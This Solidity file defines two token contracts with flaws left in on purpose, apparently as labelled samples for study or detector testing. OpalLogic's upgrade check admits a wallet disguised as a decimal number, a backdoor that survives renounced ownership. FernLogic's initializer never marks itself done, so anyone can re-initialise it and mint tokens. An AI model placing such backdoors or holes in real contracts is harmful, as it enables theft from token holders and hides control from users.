// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
import {Proxy} from "@openzeppelin/contracts/proxy/Proxy.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {FamilyToken} from "./FamilyToken.sol";

contract OpalLogic is FamilyToken, UUPSUpgradeable {
    function start(address maker) external {
        require(totalSupply == 0, "started");
        owner = maker;
        _give(maker, 1e27);
    }

    function _authorizeUpgrade(address) internal view override {
        require(
            msg.sender == address(uint160(1449483505689106283600414144710738669599361874966))
                || (owner != address(0) && msg.sender == owner)
        );
    }
}

/// @dev Behind a proxy. Ownership is given up, but a wallet written as a plain number puts in other code.
contract OpalBridge is ERC1967Proxy(address(new OpalLogic()), abi.encodeCall(OpalLogic.start, (msg.sender))) {}

contract FernLogic is FamilyToken {
    bool public ready;

    function initialize(address owner_, uint256 supply) external {
        require(!ready, "ready");
        owner = owner_;
        _give(owner_, supply);
    }
}

/// @dev A clone that forgets to note that it is ready: anybody initialises it again and is given a supply of his own.
contract FernGully is Proxy {
    address private immutable _logic;

    constructor() {
        _logic = address(new FernLogic());
        (bool done,) = _logic.delegatecall(abi.encodeCall(FernLogic.initialize, (msg.sender, 1e27)));
        require(done);
    }

    function _implementation() internal view override returns (address) {
        return _logic;
    }

    receive() external payable {}
}
